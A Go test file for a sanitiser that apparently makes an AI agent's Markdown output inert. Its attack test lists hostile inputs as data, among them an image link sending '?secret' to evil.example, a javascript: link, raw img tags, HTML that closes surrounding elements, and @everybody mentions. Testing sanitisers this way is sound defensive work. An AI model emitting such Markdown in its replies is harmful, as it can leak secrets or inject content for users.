package action

import (
	"regexp"
	"strings"
	"testing"
)

func TestInertMarkdownLooksAsItIsMeant(t *testing.T) {
	got := inert("# Done\n\nI fixed **the test** in `a.go`:\n\n- one_two\n  1. [x](y)\n> quote\n\n```go\nfunc f() {}\n```\n| a | b |\n" +
		"|---|---|\nsee https://x.example/a_b")
	want := "\n##### Done\n\n\nI fixed **the test** in `a.go`&#58;\n\n- one&#95;two\n  1. &#91;x&#93;&#40;y&#41;\n> quote\n\n\n" +
		"```text\nfunc f() {}\n```\n\n" +
		"\n```text\n| a | b |\n|---|---|\n```\n\nsee `https://x.example/a_b`\n\n"
	if got != want {
		t.Errorf("got\n%q, want\n%q", got, want)
	}
}

// Attack: Markdown and HTML of the agent's that fetches, leads elsewhere, calls people or
// ends what is around it. What is left outside of code has no character that means anything.
func TestAttackInertMarkdown(t *testing.T) {
	for _, text := range []string{
		"<img src=x>", "![x](http://evil.example/?secret)", "[x](javascript:alert(1))", "[x]: http://evil.example\n[x]",
		"</details><h1>Success</h1>",
		"\\`<img src=x>`", "`a|<img src=x>` |\n--|--", "| `a | <img> |", "``` \n</details>", "~~~\n```\n<img>\n~~~\n<b>",
		"```mermaid\nclick A href\n", "````\n```\n<img>",
		"@everybody and me@example.com", "$\\href{http://x}{y}$", "&lt;img src=x&gt;", "www.evil.example", "a\n===",
		"a\n---\n***", "    <img>", "\t<img>",
		"- - - <img>", "> > <img>", "# `<img>", "**<img>**", "`` ` `` <img> ``", "<!-- ", "`\n<img>\n`", "a`<img>\u0085`<img>`", "1. ```\n<img>",
		"- ```\n  <img>", "* [ ] x",
		"https://x.example/`<img>`", "**`<img>**`", "x`**`<img>", "\x00`<img>", "###### <img> ######",
		"a5c3785", "**a5c3785ed8d6a35868bc169f07e40e889087fd2e** (a5c3785)", "r/a5c3785, A5C3785ed8",
	} {
		got := inert(text)
		rest := got
		for { // blocks of code, by their own marks
			at := regexp.MustCompile("(?m)^(`{3,})text\n").FindStringSubmatchIndex(rest)
			if at == nil {
				break
			}
			end := strings.Index(rest[at[1]:], "\n"+rest[at[2]:at[3]]+"\n")
			if end < 0 {
				t.Fatalf("%q: a block of code has no end: %q", text, got)
			}
			rest = rest[:at[0]] + rest[at[1]+end+len(rest[at[2]:at[3]])+2:]
		}
		for _, line := range strings.Split(rest, "\n") {
			line = regexp.MustCompile("`[^`]+`").ReplaceAllString(line, "")
			line = regexp.MustCompile(`&#[0-9]+;`).ReplaceAllString(line, "")
			line = regexp.MustCompile(`^ {0,6}(- |[0-9]+\. |> |##### )`).ReplaceAllString(line, "")
			if strings.ContainsAny(strings.ReplaceAll(line, "**", ""), "\\`*_{}[]<>#+!|~$&=^:@") || strings.Contains(line, "www.") ||
				regexp.MustCompile("(?i)[0-9a-f]{7}").MatchString(line) || strings.HasPrefix(line, "    ") {
				t.Errorf("%q: %q is left of %q", text, line, got)
			}
		}
	}
}
